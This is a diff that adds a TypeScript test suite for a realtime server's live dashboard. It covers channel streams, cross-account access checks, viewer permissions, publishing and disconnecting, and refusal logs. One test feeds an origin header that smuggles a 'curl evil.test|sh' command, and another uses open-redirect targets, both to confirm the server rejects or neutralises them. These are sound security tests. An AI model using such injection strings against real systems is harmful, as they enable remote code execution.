@@ -1,0 +1,268 @@
+/** The live pages without a browser: who may see and do what, and the stream of a channel. */
+import { afterAll, afterEach, beforeAll, describe, expect, test } from 'bun:test'
+import { Clients, known } from '../support/ably.ts'
+import { Client, eventually, upgradeAnswer } from '../support/client.ts'
+import { freshChannel, joinAll, reserve } from '../support/itty.ts'
+import { type TestServer, latchkey, startTestServer } from '../support/server.ts'
+import { Stream } from './stream.ts'
+import { PASSWORD, Visitor, tokenIn } from './visitor.ts'
+
+let server: TestServer
+let owner: Visitor
+let key: string
+let appId: string
+const clients = new Clients(() => server)
+const streams: Stream[] = []
+
+beforeAll(async () => {
+  server = await startTestServer({
+    'max-reservations': '0',
+    'allowed-origins': 'https://good.test',
+  })
+  owner = await Visitor.owner(server)
+  key = await known(server, server.addKey())
+  appId = key.split('.')[0]!
+})
+afterEach(() => {
+  for (const stream of streams.splice(0)) stream.close()
+  clients.end()
+})
+afterAll(() => server.end())
+
+async function watch(query: string, visitor = owner, headers = {}): Promise<Stream> {
+  const stream = await Stream.open(server, visitor, query, headers)
+  streams.push(stream)
+  return stream
+}
+
+const rest = (channel: string, body: object) =>
+  fetch(`${server.url}/channels/${channel}/messages`, {
+    method: 'POST',
+    headers: { authorization: `Basic ${btoa(key)}`, 'content-type': 'application/json' },
+    body: JSON.stringify(body),
+  })
+
+describe('the stream of a channel', () => {
+  test('of the commons tells of messages, joins and leaves, and nobody there notices', async () => {
+    const name = freshChannel()
+    const [ann] = await joinAll(server.sockets + name, ['as=Ann'])
+    const stream = await watch(`name=${name}`)
+    ann.sendJson({ text: 'hello' })
+    await stream.entry(({ who, body }) => who === 'Ann' && body === '{"text":"hello"}')
+    const bo = await Client.join(`${server.sockets}${name}?as=Bo`)
+    await stream.entry(({ who, words }) => who === 'Bo' && words === 'came')
+    // Two, and not three.
+    await ann.next((frame) => frame['total'] === 2)
+    bo.close()
+    await stream.entry(({ who, words }) => who === 'Bo' && words === 'left')
+    expect(stream.entries).toHaveLength(3)
+    ann.close()
+  })
+
+  test('of an app tells of messages, presence, and what they are', async () => {
+    const name = freshChannel()
+    const stream = await watch(`name=${name}&app=${appId}`)
+    const client = await clients.connected({ key, clientId: 'kiosk' })
+    const channel = client.channels.get(name)
+    await channel.publish('order', { id: 1 })
+    await channel.publish('scan', Buffer.from([1, 255]))
+    await channel.publish('long', 'x'.repeat(5000))
+    await channel.presence.enter('idle')
+    await channel.presence.leave()
+    await stream.entry(({ words }) => words === 'left')
+    expect(stream.entries).toMatchObject([
+      { who: 'kiosk', name: 'order', body: '{"id":1}', note: '' },
+      { name: 'scan', body: '01ff', note: 'binary, 2 B' },
+      { name: 'long', body: 'x'.repeat(4000), note: 'the beginning of 5 kB' },
+      { who: 'kiosk', words: 'came', body: 'idle' },
+      { who: 'kiosk', words: 'left' },
+    ])
+  })
+
+  test('goes on where it was, and says where something may be missing', async () => {
+    const name = freshChannel()
+    const query = `name=${name}&app=${appId}`
+    const first = await watch(`${query}&since=beginning`)
+    await rest(name, { data: 'one' })
+    await first.entry(({ body }) => body === 'one')
+    first.close()
+    await rest(name, { data: 'two' })
+    const second = await watch(query, owner, { 'last-event-id': first.position })
+    await second.entry(({ body }) => body === 'two')
+    expect(second.entries.map(({ body }) => body)).toEqual(['two'])
+    expect(second.gaps).toBe(0)
+    const lost = await watch(`${query}&since=00000000000001-000@x`)
+    await eventually(() => lost.gaps === 1, 'it says that something may be missing')
+    const commons = await watch(`name=${freshChannel()}&since=unknown`)
+    await eventually(() => commons.gaps === 1, 'the commons remember nothing')
+  })
+
+  test('gives no more than a screen can show, and counts the rest', async () => {
+    const name = freshChannel()
+    const stream = await watch(`name=${name}&app=${appId}`)
+    const messages = Array.from({ length: 400 }, (_, index) => ({ data: String(index) }))
+    await rest(name, messages)
+    await eventually(() => stream.entries.length + stream.skipped === 400, 'all are accounted for')
+    expect(stream.entries.length).toBe(100)
+  })
+
+  test('ends when the session ends', async () => {
+    const guest = await owner.invite('viewer', 'eve@example.com')
+    const stream = await watch(`name=${freshChannel()}`, guest)
+    await guest.post('/sign-out', {})
+    await stream.ended(5000)
+  })
+
+  test('is for people who are signed in', async () => {
+    const { status } = await new Visitor(server).get('/live/stream?name=lobby')
+    expect(status).toBe(303)
+  })
+})
+
+describe('another account', () => {
+  let member: Visitor
+  let own: string
+
+  beforeAll(async () => {
+    member = await otherAccount()
+    own = freshChannel()
+  })
+
+  /** Somebody who owns an account that is not the server's. */
+  async function otherAccount(): Promise<Visitor> {
+    await latchkey(['accounts', 'add', 'team', '--data', server.folder])
+    const reset = await latchkey(['accounts', 'reset', 'team', '--data', server.folder])
+    const visitor = new Visitor(server)
+    const token = tokenIn(reset.out)
+    await visitor.post('/claim', { token, email: 'tom@example.com', password: PASSWORD })
+    return visitor.ready()
+  }
+
+  test('sees nothing of channels and connections that are not its own', async () => {
+    const name = freshChannel()
+    const client = await Client.join(server.sockets + name)
+    const ably = await clients.connected({ key, clientId: 'kiosk' })
+    await ably.channels.get(name).attach()
+    for (const path of ['/live', '/live/connections', '/live/refusals']) {
+      const { status, text } = await member.get(path)
+      expect([path, status]).toEqual([path, 200])
+      expect(text).not.toContain(name)
+      expect(text).not.toContain('127.0.0.1')
+    }
+    for (const query of [`name=${name}`, `name=${name}&app=${appId}`]) {
+      for (const part of ['channel', 'channel/people', 'channel/connections', 'stream'])
+        expect((await member.get(`/live/${part}?${query}`)).status).toBe(404)
+    }
+    await member.post('/live/publish', { channel: name, data: '1' })
+    await member.post('/live/disconnect', { channel: name })
+    await member.post('/live/disconnect', { channel: name, app: appId })
+    await member.post('/live/disconnect', { id: ably.connection.id! })
+    expect(ably.connection.state).toBe('connected')
+    client.sendJson('still here')
+    expect(client.closed).toBeUndefined()
+    expect(client.frames.some((frame) => frame['message'] === 1)).toBe(false)
+    client.close()
+  })
+
+  test('sees what happens below its own names', async () => {
+    await member.post('/reservations', { namespace: own, send: 'on' })
+    const client = await Client.join(`${server.sockets}${own}/x`)
+    expect((await member.get('/live')).text).toContain(`${own}/x`)
+    expect((await member.get(`/live/channel?name=${own}/x`)).status).toBe(200)
+    await fetch(`${server.url}/push/${own}/x`, { method: 'POST', body: '1' })
+    expect((await member.get('/live/refusals')).text).toContain(`${own}/x`)
+    client.close()
+  })
+})
+
+describe('a viewer', () => {
+  test('looks on, and may neither publish nor disconnect', async () => {
+    const name = freshChannel()
+    const viewer = await owner.invite('viewer', 'vic@example.com')
+    const client = await Client.join(server.sockets + name)
+    const { status, text } = await viewer.get(`/live/channel?name=${name}`)
+    expect(status).toBe(200)
+    expect(text).not.toContain('Publish')
+    expect(text).not.toContain('Disconnect')
+    expect((await viewer.post('/live/publish', { channel: name, data: '1' })).status).toBe(403)
+    expect((await viewer.post('/live/disconnect', { channel: name })).status).toBe(403)
+    expect(client.closed).toBeUndefined()
+    client.close()
+  })
+})
+
+describe('without scripts', () => {
+  test('a message is published, and somebody disconnected', async () => {
+    const name = freshChannel()
+    const client = await Client.join(server.sockets + name)
+    const published = await owner.post('/live/publish', { channel: name, data: '{"a":1}' })
+    expect(published.location).toBe(`/live/channel?name=${name}`)
+    await client.message({ a: 1 })
+    await owner.post('/live/publish', { channel: name, data: 'no JSON' })
+    await client.message('no JSON')
+    expect((await owner.get(`/live/channel?name=${name}`)).text).toContain('Published to 1 reader.')
+    const tooMuch = await owner.post('/live/publish', { channel: name, data: 'x'.repeat(110_000) })
+    expect([tooMuch.status, tooMuch.text.includes('The message is too large.')]).toEqual([
+      400,
+      true,
+    ])
+    const asked = await owner.get(`/live/disconnect?channel=${name}`)
+    expect(asked.text).toContain('1 connection now.')
+    const back = `/live/channel?name=${name}`
+    expect((await owner.post('/live/disconnect', { channel: name, back })).location).toBe(back)
+    expect((await client.closing()).code).toBe(1008)
+    const trail = (await owner.get(`/audit?text=${name}`)).text
+    expect(trail).toContain('Published to the channel')
+    expect(trail).toContain('Disconnected the channel')
+  })
+
+  test('where to go back to is a live page, or none', async () => {
+    for (const back of ['//evil.example', '/live\\@evil', 'https://evil.example', '/account']) {
+      const { location } = await owner.post('/live/disconnect', { id: 'none', back })
+      expect(location).toBe('/live')
+    }
+  })
+
+  test('what is kept is there, page by page', async () => {
+    const name = freshChannel()
+    for (let i = 0; i < 35; i++) await rest(name, { data: `message ${i}.` })
+    const newest = await owner.get(`/live/channel?name=${name}&app=${appId}`)
+    expect(newest.text).toContain('message 34.')
+    expect(newest.text).not.toContain('message 4.')
+    const older = /href="\/dashboard([^"]+after=[^"]+)"/.exec(newest.text)![1]!
+    expect((await owner.get(older.replaceAll('&amp;', '&'))).text).toContain('message 4.')
+  })
+})
+
+describe('refusals', () => {
+  const refusals = async () => (await owner.get('/live/refusals')).text
+  const knock = (origin: string) => upgradeAnswer(server.sockets + freshChannel(), { origin })
+
+  test('say why, how often, and what would let an origin in', async () => {
+    for (let i = 0; i < 3; i++) await knock('https://shop.test')
+    const text = await refusals()
+    expect(text).toContain('3 times')
+    expect(text).toContain('--allowed-origins &#39;https://good.test,https://shop.test&#39;')
+    expect(text).toContain('LATCHKEY_ALLOWED_ORIGINS=')
+  })
+
+  test('put nothing into a shell that no browser sends', async () => {
+    const origin = `https://x.test';curl evil.test|sh;'`
+    await knock(origin)
+    const text = await refusals()
+    expect(text).toContain('evil.test|sh')
+    expect(text).not.toContain(`good.test,https://x.test`)
+  })
+
+  test('hold no key and no query', async () => {
+    const name = freshChannel()
+    await reserve(server, name, { joinKey: 'the-right-one' })
+    await upgradeAnswer(`${server.sockets}${name}?joinKey=the-wrong-one`)
+    await upgradeAnswer(`${server.url}/?key=${key.slice(0, -4)}abcd&v=3`)
+    await fetch(`${server.url}/channels/x/messages?key=${key.slice(0, -4)}abcd`)
+    const text = await refusals()
+    expect(text).toContain(name)
+    for (const secret of ['the-right-one', 'the-wrong-one', key.slice(-12, -4)])
+      expect(text).not.toContain(secret)
+  })
+})
